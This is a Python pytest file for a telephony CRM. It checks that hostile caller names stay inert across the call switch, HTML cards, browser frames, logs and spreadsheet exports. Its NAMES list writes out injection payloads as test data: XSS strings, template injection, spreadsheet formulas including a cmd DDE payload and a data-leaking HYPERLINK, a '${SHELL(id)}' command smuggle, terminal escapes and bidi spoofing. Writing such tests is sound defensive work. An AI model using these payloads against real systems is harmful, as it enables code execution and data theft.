"""AC10: a caller calls himself a script, a formula, a terminal's command, backwards, ten kilobytes: inert anywhere.

In a browser tests/desk/test_desk_page.py shows it.
"""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
import structlog
from hypothesis import given
from hypothesis import strategies as st

from crm_core import logs
from crm_core.exporting import writers
from routing.views import CallPhase
from telephony.actions import wire
from telephony.events import CallId, LegCreated, LegId, Mark
from telephony.text import NAME_LIMIT
from tests.desk import samples
from tests.desk.test_card_render import Seen, templates
from tests.routing.house import MAIN, House, channel_of
from tests.telephony.peer import BOOTED, GREETING, newchannel
from tests.telephony.test_link import LOGIN, told
from workstation.messages import TO_BROWSER, ScreenPop
from workstation.templates import Templates

pytestmark = pytest.mark.unit
__all__ = ["templates"]
NAMES = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{7*7}}{% raw %}", "</script><!--",
    '=HYPERLINK("http://x/?"&A1,"more")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
    "\x1b[2J\x1b]0;owned\x07Anna", "\x9b31mAnna", "\u202egnp.exe\u202c", "\u2066Anna\u2069", "\u200fAnna", "A\u2028B",
    '" <+79990000000>', "x&PJSIP/op102", "${SHELL(id)}", "A,B|C;D", "x" * 10_240, "\u0301" * 500, "\U0001f4a9" * 300,
)  # fmt: skip
STEERING = (*range(0x20), *range(0x7F, 0xA0), 0x200E, 0x200F, 0x2028, 0x2029, *range(0x202A, 0x202F))
CONTROL = {chr(code) for code in (*STEERING, *range(0x2066, 0x206A))}
SHORT = [raw[:12].encode("unicode_escape").decode() for raw in NAMES]
"""Names of the tries."""


def named(raw: str) -> str:
    """Return a caller's name as the house has it, from what the switch told."""
    created = told(GREETING + LOGIN + BOOTED + newchannel(1, raw))[-1]
    assert isinstance(created, LegCreated)
    return created.name


def test_what_the_house_keeps_of_a_name_is_short_and_plain() -> None:
    for raw in NAMES:
        name = named(raw)
        assert len(name) <= NAME_LIMIT
        assert not set(name) & CONTROL, raw
    assert named("Анна Петрова") == "Анна Петрова"
    joined = "\u0646\u0633\u200c\u0631\u06cc\u0646"
    assert named(joined) == joined, "a joiner belongs to the name"


@given(st.text(max_size=200).filter(lambda raw: "\r" not in raw and "\n" not in raw))
def test_no_name_is_more_than_a_name(raw: str) -> None:
    name = named(raw.encode("utf-8", "replace").decode())
    assert len(name) <= NAME_LIMIT
    assert not set(name) & CONTROL


@pytest.mark.parametrize("raw", NAMES, ids=SHORT)
def test_it_goes_to_the_switch_and_the_screen_as_one_name(raw: str) -> None:
    name, house, call = named(raw), House(), CallId("main-1")
    house.hear(
        LegCreated(
            node=MAIN, leg=LegId(call), channel=channel_of(call), linked=call, number="79161230002", name=name,
            context="inbound", exten="100",
        )
    )  # fmt: skip
    house.mark(call, Mark.ARRIVED, Dialled="100")
    house.mark(call, Mark.WAITING, Queue="main", Since=str(int(house.now.timestamp())))
    who = house.operator(101)
    (action,) = wire(house.originates()[-1])
    assert str(action["CallerID"]).count('"') == 2
    assert str(action["CallerID"]).endswith("<+79161230002>")
    assert action["Context"] == "connect"
    assert not any("SHELL" in one or "op102" in one for one in action["Variable"])
    shown = house.screens[who].call
    assert shown is not None
    assert shown.name == name


@pytest.mark.parametrize("raw", NAMES, ids=SHORT)
def test_it_makes_no_element_of_a_card(templates: Templates, raw: str) -> None:
    def seen(name: str) -> Seen:
        found = Seen()
        call = samples.call(CallPhase.RINGING, name=name, number="")
        shown = {"card": samples.card(), "call": call, "today": samples.TODAY, "recognised_by": "account", "csrf": "t"}
        found.feed(templates.render("card.html", "en", **shown))
        found.feed(templates.render("unknown.html", "en", call=call, recognised_by="", csrf="t"))
        return found

    ours, plain = seen(named(raw)), seen("plain")
    assert ours.tags == plain.tags
    assert ours.handlers == []


@pytest.mark.parametrize("raw", NAMES, ids=SHORT)
def test_it_is_one_text_of_a_frame(raw: str) -> None:
    name = named(raw)
    frame = ScreenPop.frame("e", 1, samples.call(name=name), json.dumps("<p>card</p>").encode())
    message = TO_BROWSER.validate_json(frame)
    assert isinstance(message, ScreenPop)
    assert (message.call.name, message.card) == (name, "<p>card</p>")


def test_it_begins_no_line_of_a_log_and_steers_no_terminal() -> None:
    stream, root = io.StringIO(), logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        logs.begin(stream)
        for raw in NAMES:
            logging.getLogger("test").info("caller %s\r\n2026-01-01 INFO root: signed in", raw)
            structlog.get_logger("test").info("caller", name=raw)
    finally:
        logging.basicConfig(level=level, handlers=handlers, force=True)
        structlog.reset_defaults()
    lines = stream.getvalue().removesuffix("\n").split("\n")
    assert len(lines) == 2 * len(NAMES)
    assert not set("".join(lines)) & (CONTROL - {"\u200e", "\u200f"})


def test_a_spreadsheet_runs_none_of_them(tmp_path: Path) -> None:
    mark = writers.Mark(
        export_id=1, user="marta", at=datetime(2026, 11, 24, tzinfo=UTC), reason=NAMES[4], utility="Sample"
    )
    for kind, file in ((writers.Csv, tmp_path / "a.csv"), (writers.Xlsx, tmp_path / "a.xlsx")):
        writer = kind(file, ["name"], mark)
        for raw in NAMES:
            writer.add([raw])
        writer.close()
    rows = list(csv.reader(io.StringIO((tmp_path / "a.csv").read_text("utf-8-sig"))))
    assert len(rows) == len(NAMES) + 3
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    page = openpyxl.load_workbook(tmp_path / "a.xlsx").active
    assert page is not None
    cells = [cell for row in page.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [cell for cell in cells if cell.hyperlink]
